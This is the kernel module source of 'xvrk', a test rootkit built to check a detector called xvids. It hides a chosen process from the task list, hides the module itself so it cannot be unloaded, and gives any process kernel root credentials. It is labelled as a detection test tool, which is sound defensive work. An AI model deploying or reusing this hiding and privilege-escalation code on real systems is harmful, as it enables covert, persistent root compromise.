// SPDX-License-Identifier: GPL-2.0
/*
 * xvrk: a DKOM test "rootkit" for xvids's hidden-process / hidden-module checks.
 *
 * TEST TOOL ONLY. It corrupts kernel bookkeeping on purpose; load it only into
 * throwaway test guests. See docs/rootkit.md for the constraints.
 *
 *   hide_pid=N   unlink thread-group leader N from the global task list
 *                (init_task.tasks). It stays in the PID table, so /proc and
 *                ps still show it; for_each_process() no longer sees it.
 *   hide_self=1  unlink this module from the module list. /proc/modules no
 *                longer lists it; the sysfs kobject (/sys/module/xvrk) stays.
 *                The module can then never be unloaded.
 *   cred_pid=N   give task N the kernel's own credentials: its cred and
 *                real_cred both become init_task's, i.e. &init_cred (the
 *                pointer itself, not a copy as prepare_kernel_cred() makes).
 *                N runs as root from then on; it is not undone on unload.
 *
 * tasklist_lock and module_mutex are not exported to modules on Linux 6.1, so
 * every list update runs inside stop_machine(): all other CPUs spin with
 * interrupts off, which excludes every tasklist_lock section (rwlock sections
 * never sleep) and every preempt-disabled module-list reader. Unlinked nodes
 * are made self-linked only after an RCU grace period, so preempted RCU
 * readers that stood on the node still find the old successor, and a later
 * list_del_rcu() by the kernel (task reap) passes CONFIG_DEBUG_LIST checks.
 */
#include <linux/cred.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/stop_machine.h>

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "pid of a thread-group leader to unlink from the task list");

static bool hide_self;
module_param(hide_self, bool, 0444);
MODULE_PARM_DESC(hide_self, "unlink this module from the module list (no unload afterwards)");

static int cred_pid;
module_param(cred_pid, int, 0444);
MODULE_PARM_DESC(cred_pid, "pid of a task to run with the kernel's init_cred from now on");

/* The hidden task, with a reference held so module exit can re-link it. */
static struct task_struct *hidden_task;

static int unlink_task_stopped(void *data)
{
	struct task_struct *t = data;

	/* Nothing else runs now: the reap path cannot be half-way through. */
	if (t->exit_state || (t->flags & PF_EXITING) ||
	    t->tasks.prev == LIST_POISON2 || !thread_group_leader(t))
		return -ESRCH;
	list_del_rcu(&t->tasks);
	return 0;
}

static int selflink_task_stopped(void *data)
{
	struct task_struct *t = data;

	INIT_LIST_HEAD(&t->tasks);
	return 0;
}

static int relink_task_stopped(void *data)
{
	struct task_struct *t = data;

	/* After release_task() the node is poisoned: the task is gone. */
	if (t->tasks.prev == LIST_POISON2 || t->tasks.next != &t->tasks)
		return -ESRCH;
	list_add_tail_rcu(&t->tasks, &init_task.tasks);
	return 0;
}

static int unlink_self_stopped(void *data)
{
	struct module *mod = data;

	list_del_rcu(&mod->list);
	return 0;
}

struct cred_swap {
	struct task_struct *t;
	const struct cred *kcred, *old_real, *old;
};

static int swap_cred_stopped(void *data)
{
	struct cred_swap *c = data;

	if (c->t->exit_state || (c->t->flags & PF_EXITING))
		return -ESRCH;
	c->old_real = rcu_dereference_protected(c->t->real_cred, 1);
	c->old = rcu_dereference_protected(c->t->cred, 1);
	rcu_assign_pointer(c->t->real_cred, c->kcred);
	rcu_assign_pointer(c->t->cred, c->kcred);
	return 0;
}

/* Another task's credentials are never changed by the kernel itself (commit_creds() works on
 * current only); with every other CPU stopped no reader is half-way through them. */
static int xvrk_give_init_cred(pid_t nr)
{
	struct cred_swap c = { 0 };
	struct pid *pid;
	int ret;

	if (nr <= 0 || nr == task_tgid_nr(current)) {
		pr_err("xvrk: cred_pid must be the pid of another task, not %d\n", nr);
		return -EINVAL;
	}
	pid = find_get_pid(nr);
	c.t = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
	put_pid(pid);
	if (!c.t) {
		pr_err("xvrk: no task with pid %d\n", nr);
		return -EINVAL;
	}
	/* init_task runs on init_cred; one reference for each pointer that will hold it. */
	c.kcred = rcu_dereference_protected(init_task.cred, 1);
	get_cred(c.kcred);
	get_cred(c.kcred);
	ret = stop_machine(swap_cred_stopped, &c, NULL);
	if (ret) {
		put_cred(c.kcred);
		put_cred(c.kcred);
		put_task_struct(c.t);
		pr_err("xvrk: pid %d is exiting, credentials not changed\n", nr);
		return -EINVAL;
	}
	/* Readers of the old credentials hold RCU; put_cred() frees them after a grace period. */
	put_cred(c.old_real);
	put_cred(c.old);
	pr_info("xvrk: pid %d (%s) now runs with init_cred\n", nr, c.t->comm);
	put_task_struct(c.t);
	return 0;
}

static int xvrk_hide_task(pid_t nr)
{
	struct pid *pid;
	struct task_struct *t;
	int ret;

	/* Every refusal returns -EINVAL: BusyBox insmod words other codes misleadingly. */
	if (nr < 0) {
		pr_err("xvrk: hide_pid must be a positive pid, not %d\n", nr);
		return -EINVAL;
	}
	if (nr == task_tgid_nr(current)) {
		pr_err("xvrk: refusing to hide pid %d: it is insmod itself and exits now\n", nr);
		return -EINVAL;
	}
	pid = find_get_pid(nr);
	t = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
	put_pid(pid);
	if (!t) {
		pr_err("xvrk: no task with pid %d\n", nr);
		return -EINVAL;
	}
	if (!thread_group_leader(t)) {
		pr_err("xvrk: pid %d (%s) is not a thread-group leader; pass the tgid\n",
		       nr, t->comm);
		put_task_struct(t);
		return -EINVAL;
	}

	ret = stop_machine(unlink_task_stopped, t, NULL);
	if (ret) {
		pr_err("xvrk: pid %d (%s) is exiting, not hidden\n", nr, t->comm);
		put_task_struct(t);
		return -EINVAL;
	}
	/*
	 * Window: if the task is reaped before the self-link below, the kernel's
	 * own list_del_rcu() meets a poisoned node (BUG with DEBUG_LIST). Don't
	 * kill the target while insmod runs.
	 */
	synchronize_rcu();
	stop_machine(selflink_task_stopped, t, NULL);

	pr_info("xvrk: hid pid %d (%s) from the task list\n", nr, t->comm);
	hidden_task = t;
	return 0;
}

static void xvrk_hide_self(void)
{
	stop_machine(unlink_self_stopped, THIS_MODULE, NULL);
	/* Readers walk the module list under RCU or preempt_disable(). */
	synchronize_rcu();
	INIT_LIST_HEAD(&THIS_MODULE->list);
	pr_info("xvrk: hid module %s from the module list (sysfs kobject kept; cannot be unloaded)\n",
		THIS_MODULE->name);
}

static int __init xvrk_init(void)
{
	int ret;

	pr_info("xvrk: xvids DKOM test module loaded (test tool; hide_pid=%d hide_self=%d "
		"cred_pid=%d)\n", hide_pid, hide_self, cred_pid);
	if (cred_pid) {
		ret = xvrk_give_init_cred(cred_pid);
		if (ret)
			return ret;
	}
	if (hide_pid) {
		ret = xvrk_hide_task(hide_pid);
		if (ret)
			return ret;
	}
	if (hide_self) {
		/* Unloading is impossible from now on: the reference is never needed. */
		if (hidden_task) {
			put_task_struct(hidden_task);
			hidden_task = NULL;
		}
		xvrk_hide_self();
	}
	return 0;
}

static void __exit xvrk_exit(void)
{
	struct task_struct *t = hidden_task;

	if (!t)
		return;
	if (stop_machine(relink_task_stopped, t, NULL) == 0)
		pr_info("xvrk: re-linked pid %d (%s) into the task list\n", t->pid, t->comm);
	else
		pr_info("xvrk: hidden pid %d already reaped; nothing to re-link\n", t->pid);
	put_task_struct(t);
}

module_init(xvrk_init);
module_exit(xvrk_exit);

MODULE_LICENSE("GPL");
MODULE_AUTHOR("xvids project");
MODULE_DESCRIPTION("xvids test tool: DKOM task/module hiding for detection tests (not for production)");
